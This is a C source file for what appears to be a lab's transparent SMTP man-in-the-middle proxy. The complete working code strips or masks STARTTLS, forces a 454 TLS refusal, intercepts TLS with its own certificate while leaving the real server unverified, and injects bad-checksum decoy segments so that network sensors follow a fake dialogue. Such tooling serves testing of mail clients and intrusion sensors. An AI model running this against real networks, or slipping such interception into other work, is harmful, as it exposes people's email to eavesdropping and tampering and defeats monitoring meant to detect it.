/*
 * mitm_smtp.c - the lab's transparent SMTP proxy. nftables on the router
 * redirects client connections to port 25 here; each one is served by a
 * child process that connects to the original destination and relays the
 * session line by line until STARTTLS, then byte by byte. Modes:
 *   pass-smtp       relay unchanged
 *   strip-starttls  delete STARTTLS from the EHLO reply
 *   mask-starttls   overwrite it with XXXXXXXA (what Cisco ASA's inspection does)
 *   starttls-454    answer the client's STARTTLS with 454 itself
 *   own-cert        terminate TLS toward the client with our own certificate
 *                   and open TLS to the real server (capped at TLS 1.2 toward
 *                   the client unless -t 1.3, so the certificate stays visible)
 *   insert-strip    strip STARTTLS from the EHLO reply the client gets, and
 *                   first write on the wire (-i IFACE), at the same sequence
 *                   numbers, the genuine reply with a wrong TCP checksum: the
 *                   client's kernel drops it, a sensor that takes it as
 *                   first data follows a dialogue the client never had
 *   insert-decoy    relay the EHLO reply unchanged, after a decoy at the same
 *                   sequence numbers (wrong TCP checksum) that masks STARTTLS
 */
#include "mitm.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netfilter_ipv4.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

enum smtp_mode { M_PASS, M_STRIP, M_MASK, M_454, M_CERT, M_INS_STRIP, M_INS_DECOY };

#define LINE_MAX_LEN  4096
#define REPLY_MAX_LEN 16384

/* One direction's bytes not yet cut into lines. */
struct side {
	int fd;
	char buf[LINE_MAX_LEN];
	size_t len;
};

/* One relayed session, owned by its child process. */
struct session {
	const struct mitm_opts *o;
	enum smtp_mode mode;
	struct side cli, srv;
	char reply[REPLY_MAX_LEN]; /* server reply lines up to the final one */
	size_t reply_len;
	bool mail_started;  /* MAIL seen: no more EHLO/STARTTLS to touch */
	bool starttls_sent; /* client's STARTTLS forwarded, answer pending */
	bool decoy_sent;    /* insert-*: the EHLO reply's decoy went out */
	SSL_CTX *tls_to_client, *tls_to_server;
	struct wire_tap *tap; /* insert-*: the client-facing wire */
};

static const char reply_454[] = "454 4.7.0 TLS not available due to local problem\r\n";

static enum smtp_mode parse_mode(const char *m)
{
	if (strcmp(m, "pass-smtp") == 0)
		return M_PASS;
	if (strcmp(m, "strip-starttls") == 0)
		return M_STRIP;
	if (strcmp(m, "mask-starttls") == 0)
		return M_MASK;
	if (strcmp(m, "starttls-454") == 0)
		return M_454;
	if (strcmp(m, "own-cert") == 0)
		return M_CERT;
	if (strcmp(m, "insert-strip") == 0)
		return M_INS_STRIP;
	if (strcmp(m, "insert-decoy") == 0)
		return M_INS_DECOY;
	mitm_fatal("unknown smtp mode %s", m);
}

/* True when LINE (with its CRLF) is the command CMD, any case. */
static bool is_command(const char *line, size_t len, const char *cmd)
{
	size_t n = strlen(cmd);

	while (len > 0 && (line[len - 1] == '\n' || line[len - 1] == '\r' || line[len - 1] == ' '))
		len--;
	return len == n && strncasecmp(line, cmd, n) == 0;
}

/* True when LINE starts with the verb VERB followed by a space or colon. */
static bool has_verb(const char *line, size_t len, const char *verb)
{
	size_t n = strlen(verb);

	return len > n && strncasecmp(line, verb, n) == 0 && (line[n] == ' ' || line[n] == ':');
}

/* True when the reply line carries the STARTTLS keyword (after "250-"). */
static bool is_starttls_line(const char *line, size_t len)
{
	return len >= 4 && is_command(line + 4, len - 4, "STARTTLS");
}

/*
 * Rewrites the complete multi-line reply in s->reply as mode HOW (M_STRIP
 * or M_MASK) does. Stripping keeps the reply well formed: every line but
 * the last continues with '-', the last ends it with ' '. False when the
 * reply has no STARTTLS line (left as it was).
 */
static bool transform_reply_as(struct session *s, enum smtp_mode how)
{
	char out[REPLY_MAX_LEN];
	size_t olen = 0, last = 0, i = 0;
	bool changed = false;

	while (i < s->reply_len) {
		char *nl = memchr(s->reply + i, '\n', s->reply_len - i);
		size_t len = nl ? (size_t)(nl - (s->reply + i)) + 1 : s->reply_len - i;
		char *line = s->reply + i;

		i += len;
		if (is_starttls_line(line, len)) {
			changed = true;
			if (how == M_STRIP)
				continue;
			memcpy(line + 4, "XXXXXXXA", 8);
		}
		last = olen;
		memcpy(out + olen, line, len);
		olen += len;
	}
	if (!changed)
		return false;
	if (how == M_STRIP) {
		for (i = 0; i < olen; i++)
			if ((i == 0 || out[i - 1] == '\n') && olen - i > 3)
				out[i + 3] = i == last ? ' ' : '-';
		mitm_log("stripped STARTTLS from the EHLO reply");
	} else {
		mitm_log("masked STARTTLS as XXXXXXXA in the EHLO reply");
	}
	memcpy(s->reply, out, olen);
	s->reply_len = olen;
	return true;
}

/*
 * insert-strip and insert-decoy: the reply in s->reply advertises STARTTLS.
 * Writes the decoy on the wire and leaves in s->reply what the client gets.
 */
static void insert_decoy(struct session *s)
{
	char orig[REPLY_MAX_LEN];
	size_t olen = s->reply_len;

	memcpy(orig, s->reply, olen);
	if (!transform_reply_as(s, s->mode == M_INS_STRIP ? M_STRIP : M_MASK))
		return;
	s->decoy_sent = true;
	if (s->mode == M_INS_STRIP) {
		/* The client gets the stripped reply; the decoy is the genuine one. */
		mitm_wire_decoy(s->tap, orig, olen);
		return;
	}
	mitm_wire_decoy(s->tap, s->reply, s->reply_len);
	memcpy(s->reply, orig, olen);
	s->reply_len = olen;
}

static int tls_servername(SSL *ssl, int *al, void *arg)
{
	(void)al;
	(void)arg;
	const char *sni = SSL_get_servername(ssl, TLSEXT_NAMETYPE_host_name);

	if (sni)
		mitm_log("client asked for %s", sni);
	return SSL_TLSEXT_ERR_OK;
}

static void log_tls_errors(const char *what)
{
	unsigned long e;
	char buf[256];

	while ((e = ERR_get_error()) != 0) {
		ERR_error_string_n(e, buf, sizeof(buf));
		mitm_log("%s: %s", what, buf);
	}
}

/* Writes all N bytes to the non-blocking TLS session S. */
static bool tls_write_all(SSL *s, const char *buf, int n)
{
	while (n > 0) {
		int w = SSL_write(s, buf, n);

		if (w > 0) {
			buf += w;
			n -= w;
			continue;
		}
		int e = SSL_get_error(s, w);
		struct pollfd p = {.fd = SSL_get_fd(s),
				   .events = e == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT};

		if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE)
			return false;
		poll(&p, 1, 1000);
	}
	return true;
}

/*
 * Copies decrypted data between the two TLS sessions until one ends. The
 * sockets are non-blocking here: a TLS 1.3 server sends session tickets
 * after the handshake, and a blocking read of those would wait for
 * application data the server only sends after the client spoke.
 */
static void tls_relay(SSL *a, SSL *b)
{
	SSL *from[2] = {a, b}, *to[2] = {b, a};
	char buf[16384];

	for (int k = 0; k < 2; k++) {
		int fd = SSL_get_fd(from[k]);

		fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
	}
	for (;;) {
		struct pollfd p[2] = {{.fd = SSL_get_fd(a), .events = POLLIN},
				      {.fd = SSL_get_fd(b), .events = POLLIN}};

		if (SSL_pending(a) == 0 && SSL_pending(b) == 0 && poll(p, 2, -1) < 0 &&
		    errno != EINTR)
			return;
		for (int k = 0; k < 2; k++) {
			if (SSL_pending(from[k]) == 0 &&
			    !(p[k].revents & (POLLIN | POLLHUP | POLLERR)))
				continue;
			int n = SSL_read(from[k], buf, sizeof(buf));

			if (n <= 0) {
				int e = SSL_get_error(from[k], n);

				if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE)
					continue;
				mitm_log("%s ended the TLS session (ssl error %d)",
					 k == 0 ? "client" : "server", e);
				log_tls_errors("relay");
				return;
			}
			if (!tls_write_all(to[k], buf, n))
				return;
		}
	}
}

/*
 * own-cert: the server said 220 to STARTTLS. Completes TLS with the client
 * using our certificate, then with the real server (same SNI), and relays.
 * Never returns.
 */
static _Noreturn void bridge_tls(struct session *s)
{
	SSL *c = SSL_new(s->tls_to_client), *v = SSL_new(s->tls_to_server);
	const char *sni;

	if (!c || !v)
		mitm_fatal("SSL_new failed");
	if (!mitm_write_all(s->cli.fd, s->reply, s->reply_len))
		exit(0);
	SSL_set_fd(c, s->cli.fd);
	if (SSL_accept(c) != 1) {
		log_tls_errors("TLS with the client");
		mitm_log("client refused our certificate or the handshake failed");
		exit(0);
	}
	mitm_log("TLS with the client: %s %s", SSL_get_version(c), SSL_get_cipher(c));
	SSL_set_fd(v, s->srv.fd);
	sni = SSL_get_servername(c, TLSEXT_NAMETYPE_host_name);
	if (sni)
		SSL_set_tlsext_host_name(v, sni);
	if (SSL_connect(v) != 1) {
		log_tls_errors("TLS with the server");
		exit(0);
	}
	mitm_log("TLS with the server: %s", SSL_get_version(v));
	tls_relay(c, v);
	SSL_shutdown(c);
	SSL_shutdown(v);
	mitm_log("session ended");
	exit(0);
}

/* Copies bytes both ways until both directions are closed. Never returns. */
static _Noreturn void raw_relay(struct session *s)
{
	bool open[2] = {true, true};
	int fd[2] = {s->cli.fd, s->srv.fd};
	char buf[16384];

	if (s->cli.len && !mitm_write_all(s->srv.fd, s->cli.buf, s->cli.len))
		exit(0);
	if (s->srv.len && !mitm_write_all(s->cli.fd, s->srv.buf, s->srv.len))
		exit(0);
	while (open[0] || open[1]) {
		struct pollfd p[2] = {{.fd = open[0] ? fd[0] : -1, .events = POLLIN},
				      {.fd = open[1] ? fd[1] : -1, .events = POLLIN}};

		if (poll(p, 2, -1) < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		for (int k = 0; k < 2; k++) {
			if (!open[k] || !(p[k].revents & (POLLIN | POLLHUP | POLLERR)))
				continue;
			ssize_t n = read(fd[k], buf, sizeof(buf));

			if (n <= 0 || !mitm_write_all(fd[1 - k], buf, (size_t)n)) {
				open[k] = false;
				shutdown(fd[1 - k], SHUT_WR);
			}
		}
	}
	exit(0);
}

static void client_line(struct session *s, const char *line, size_t len)
{
	if (!s->mail_started && is_command(line, len, "STARTTLS")) {
		if (s->mode == M_454) {
			mitm_log("answered STARTTLS with 454");
			if (!mitm_write_all(s->cli.fd, reply_454, sizeof(reply_454) - 1))
				exit(0);
			return;
		}
		s->starttls_sent = true;
	}
	if (has_verb(line, len, "MAIL"))
		s->mail_started = true;
	if (!mitm_write_all(s->srv.fd, line, len))
		exit(0);
}

/* A complete server reply is in s->reply: rewrite and pass it on. */
static void server_reply(struct session *s)
{
	if (s->starttls_sent) {
		s->starttls_sent = false;
		if (s->reply_len >= 3 && memcmp(s->reply, "220", 3) == 0) {
			if (s->mode == M_CERT)
				bridge_tls(s);
			if (!mitm_write_all(s->cli.fd, s->reply, s->reply_len))
				exit(0);
			raw_relay(s);
		}
	} else if (!s->mail_started && (s->mode == M_STRIP || s->mode == M_MASK)) {
		transform_reply_as(s, s->mode);
	} else if (!s->mail_started && !s->decoy_sent &&
		   (s->mode == M_INS_STRIP || s->mode == M_INS_DECOY)) {
		insert_decoy(s);
	}
	if (!mitm_write_all(s->cli.fd, s->reply, s->reply_len))
		exit(0);
	s->reply_len = 0;
}

static void server_line(struct session *s, const char *line, size_t len)
{
	if (s->reply_len + len > sizeof(s->reply)) {
		/* An absurd reply: pass what we hold unchanged. */
		if (!mitm_write_all(s->cli.fd, s->reply, s->reply_len))
			exit(0);
		s->reply_len = 0;
	}
	memcpy(s->reply + s->reply_len, line, len);
	s->reply_len += len;
	/* "250-" continues a reply, "250 " (or a bare code) ends it. */
	if (len < 4 || line[3] != '-')
		server_reply(s);
}

/*
 * Reads what FD has into SIDE and hands each complete line to FN; a line
 * longer than the buffer is handed over in pieces. Returns false at EOF.
 */
static bool pump(struct session *s, struct side *side,
		 void (*fn)(struct session *, const char *, size_t))
{
	ssize_t n = read(side->fd, side->buf + side->len, sizeof(side->buf) - side->len);
	char *nl;

	if (n <= 0)
		return false;
	side->len += (size_t)n;
	/*
	 * Each line leaves the buffer before FN sees it: FN may never return
	 * (the relay after STARTTLS), and what it relays must not include the
	 * line it was handed.
	 */
	while ((nl = memchr(side->buf, '\n', side->len)) != NULL) {
		char line[LINE_MAX_LEN];
		size_t l = (size_t)(nl - side->buf) + 1;

		memcpy(line, side->buf, l);
		memmove(side->buf, side->buf + l, side->len - l);
		side->len -= l;
		fn(s, line, l);
	}
	if (side->len == sizeof(side->buf)) {
		char line[LINE_MAX_LEN];
		size_t l = side->len;

		memcpy(line, side->buf, l);
		side->len = 0;
		fn(s, line, l);
	}
	return true;
}

static _Noreturn void serve(struct session *s)
{
	struct sockaddr_in dst;
	socklen_t dlen = sizeof(dst);
	char name[INET_ADDRSTRLEN];

	if (getsockopt(s->cli.fd, SOL_IP, SO_ORIGINAL_DST, &dst, &dlen) < 0)
		mitm_fatal("no original destination (not redirected?): %s", strerror(errno));
	inet_ntop(AF_INET, &dst.sin_addr, name, sizeof(name));
	/* Watching the wire before the banner goes out: every segment is seen. */
	if (s->mode == M_INS_STRIP || s->mode == M_INS_DECOY)
		s->tap = mitm_wire_open(s->o->wire_iface, s->cli.fd, &dst);
	s->srv.fd = mitm_connect(&dst);
	if (s->srv.fd < 0)
		mitm_fatal("cannot reach %s:%u: %s", name, ntohs(dst.sin_port), strerror(errno));
	mitm_log("relaying to %s:%u in mode %s", name, ntohs(dst.sin_port), s->o->mode);
	for (;;) {
		struct pollfd p[2] = {{.fd = s->cli.fd, .events = POLLIN},
				      {.fd = s->srv.fd, .events = POLLIN}};

		if (poll(p, 2, -1) < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		if ((p[0].revents & (POLLIN | POLLHUP | POLLERR)) && !pump(s, &s->cli, client_line))
			break;
		if ((p[1].revents & (POLLIN | POLLHUP | POLLERR)) && !pump(s, &s->srv, server_line))
			break;
	}
	mitm_log("session ended");
	exit(0);
}

static void setup_tls(struct session *s)
{
	const struct mitm_opts *o = s->o;

	if (!o->cert_file || !o->key_file)
		mitm_fatal("own-cert needs -c CERT and -k KEY");
	s->tls_to_client = SSL_CTX_new(TLS_server_method());
	s->tls_to_server = SSL_CTX_new(TLS_client_method());
	if (!s->tls_to_client || !s->tls_to_server)
		mitm_fatal("SSL_CTX_new failed");
	if (SSL_CTX_use_certificate_chain_file(s->tls_to_client, o->cert_file) != 1 ||
	    SSL_CTX_use_PrivateKey_file(s->tls_to_client, o->key_file, SSL_FILETYPE_PEM) != 1) {
		log_tls_errors("certificate");
		mitm_fatal("cannot load %s / %s", o->cert_file, o->key_file);
	}
	if (o->tls_max == 12)
		SSL_CTX_set_max_proto_version(s->tls_to_client, TLS1_2_VERSION);
	SSL_CTX_set_tlsext_servername_callback(s->tls_to_client, tls_servername);
	/* The real server's certificate is of no interest to an attacker. */
	SSL_CTX_set_verify(s->tls_to_server, SSL_VERIFY_NONE, NULL);
}

int mitm_smtp_run(const struct mitm_opts *o)
{
	static struct session proto;
	int lfd;

	proto.o = o;
	proto.mode = parse_mode(o->mode);
	if (proto.mode == M_CERT)
		setup_tls(&proto);
	if ((proto.mode == M_INS_STRIP || proto.mode == M_INS_DECOY) && o->wire_iface == NULL)
		mitm_fatal("%s needs -i IFACE", o->mode);
	lfd = mitm_listen(SOCK_STREAM, o->listen_port);
	mitm_log("smtp %s listening on port %u", o->mode, o->listen_port);
	for (;;) {
		int cfd = accept(lfd, NULL, NULL);
		pid_t pid;

		if (cfd < 0) {
			if (errno == EINTR || errno == ECONNABORTED)
				continue;
			mitm_fatal("accept: %s", strerror(errno));
		}
		pid = fork();
		if (pid == 0) {
			close(lfd);
			proto.cli.fd = cfd;
			serve(&proto);
		}
		if (pid < 0)
			mitm_log("fork: %s", strerror(errno));
		close(cfd);
	}
}
